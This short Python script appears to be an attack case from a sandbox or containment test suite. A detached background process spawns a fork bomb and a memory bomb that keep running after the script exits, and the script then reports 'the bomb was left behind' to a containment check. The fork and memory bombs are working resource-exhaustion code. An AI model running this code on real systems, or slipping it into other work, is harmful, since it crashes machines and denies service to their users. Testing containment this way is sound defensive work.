"""Leaves a fork bomb and a memory bomb behind that go off after its end."""

import contextlib
import os
import time

from attack import contained

if os.fork() == 0:
    os.setsid()
    os.closerange(0, 1024)
    time.sleep(0.1)
    if os.fork() == 0:
        held = []
        while True:
            held.append(bytearray(8 << 20))
    while True:
        with contextlib.suppress(OSError):
            os.fork()
contained("the bomb was left behind")
